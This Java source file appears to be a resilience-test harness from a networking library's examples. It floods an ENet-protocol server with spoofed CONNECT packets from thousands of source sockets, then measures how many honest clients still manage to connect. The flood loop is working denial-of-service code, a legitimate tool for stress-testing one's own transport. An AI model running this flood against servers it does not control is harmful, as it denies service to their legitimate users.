package dev.entitynet.examples.enetattack;

import dev.entitynet.examples.Arguments;
import dev.entitynet.examples.enetattack.net.SourceSet;
import dev.entitynet.examples.enetattack.session.MilliClock;
import dev.entitynet.examples.enetattack.session.RawPeer;
import dev.entitynet.examples.enetattack.wire.ConnectCommand;
import dev.entitynet.examples.enetattack.wire.Header;
import dev.entitynet.transport.enet.protocol.Protocol;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.locks.LockSupport;

/**
 * Slot exhaustion: a flood of spoofed CONNECTs (fresh connect id each, round-robin over many
 * sources that never answer) while honest clients, started one after another, try to connect
 * (CONNECT, VERIFY_CONNECT, ACK + PING, the PING acknowledged). Reports how long the honest ones
 * took (-1 when none connected) and how many did not make it within the limit.
 */
final class SlotsAttack implements Attack {
    static final int BLOCK = 30;

    @Override
    public String name() {
        return "slots";
    }

    @Override
    public String usage() {
        return "[--rate 2000] [--sources 5000] [--seconds 4] [--honest 8] [--honest-interval-ms 250] [--honest-timeout-ms 2000]";
    }

    @Override
    public Set<String> options() {
        return Set.of("rate", "sources", "seconds", "honest", "honest-interval-ms", "honest-timeout-ms");
    }

    @Override
    public Results run(Target target, Arguments a) throws InterruptedException {
        double rate = a.doubleValue("rate", 2000);
        int sourceCount = a.intValue("sources", 5000);
        long floodMillis = (long) (a.doubleValue("seconds", 4) * 1000);
        int honest = a.intValue("honest", 8);
        long interval = a.longValue("honest-interval-ms", 250);
        long timeout = a.longValue("honest-timeout-ms", 2000);
        Results results = new Results(name());
        try (SourceSet sources = SourceSet.bind(BLOCK, sourceCount, target.server())) {
            Flood flood = new Flood(sources, target.channels(), rate, new Random(target.random().nextLong()));
            Thread floodThread = new Thread(flood, "slots-flood");
            long start = MilliClock.millis();
            floodThread.start();
            LockSupport.parkNanos(Math.min(500, floodMillis / 4) * 1_000_000L); // let the flood take hold first
            long[] elapsed = new long[honest];
            List<Thread> clients = new ArrayList<>();
            for (int h = 0; h < honest; h++) {
                int index = h;
                int connectId = target.random().nextInt();
                Thread client = new Thread(() -> elapsed[index] = honestConnect(target, connectId, timeout), "slots-honest-" + h);
                client.start();
                clients.add(client);
                LockSupport.parkNanos(interval * 1_000_000L);
            }
            for (Thread client : clients) {
                client.join();
            }
            long remaining = start + floodMillis - MilliClock.millis();
            if (remaining > 0) {
                Thread.sleep(remaining);
            }
            flood.stop.set(true);
            floodThread.join();
            long floodTime = Math.max(1, MilliClock.millis() - start);
            long[] connected = java.util.Arrays.stream(elapsed).filter(e -> e >= 0).toArray();
            Percentiles times = Percentiles.of(connected);
            results.put("sources", sourceCount)
                    .put("rate", rate)
                    .put("flood_sent", flood.sent)
                    .put("flood_rate_achieved", flood.sent * 1000.0 / floodTime)
                    .put("flood_bytes", sources.totalBytesSent())
                    .put("reflected_bytes", sources.totalBytesReceived())
                    .put("honest_attempts", honest)
                    .put("honest_connected", connected.length)
                    .put("honest_failed", honest - connected.length)
                    .put("honest_timeout_ms", timeout)
                    .put("connect_ms_p50", connected.length == 0 ? -1 : times.p50())
                    .put("connect_ms_max", connected.length == 0 ? -1 : times.max());
        }
        return results;
    }

    /** One honest client: connects, then leaves; the milliseconds it took, or -1. */
    private static long honestConnect(Target target, int connectId, long timeout) {
        try (RawPeer peer = RawPeer.open(target.anyLocal(), target.server(), target.channels(), connectId, true)) {
            long took = peer.connect(timeout);
            peer.disconnect();
            return took;
        }
    }

    /** Sends spoofed CONNECTs at the rate until stopped, draining what comes back to the sources. */
    private static final class Flood implements Runnable {
        final AtomicBoolean stop = new AtomicBoolean();
        final SourceSet sources;
        final int channels;
        final RatePacer pacer;
        final Random random;
        volatile long sent;

        Flood(SourceSet sources, int channels, double rate, Random random) {
            this.sources = sources;
            this.channels = channels;
            this.pacer = new RatePacer(rate);
            this.random = random;
        }

        @Override
        public void run() {
            ByteBuffer out = ByteBuffer.allocate(ConnectCommand.DATAGRAM_SIZE);
            long count = 0;
            long nextDrain = 0;
            while (!stop.get()) {
                for (int n = pacer.due(); n > 0; n--) {
                    out.clear();
                    Header.write(out, Protocol.MAXIMUM_PEER_ID, 0, MilliClock.sentTime());
                    ConnectCommand.fresh(0, channels, random.nextInt()).write(out, 1);
                    sources.source((int) (count++ % sources.size())).send(out.flip());
                }
                sent = count;
                long now = MilliClock.millis();
                if (now >= nextDrain) {
                    sources.drain(0, null);
                    nextDrain = now + 50;
                }
                pacer.pause();
            }
            sources.drain(0, null);
        }
    }
}
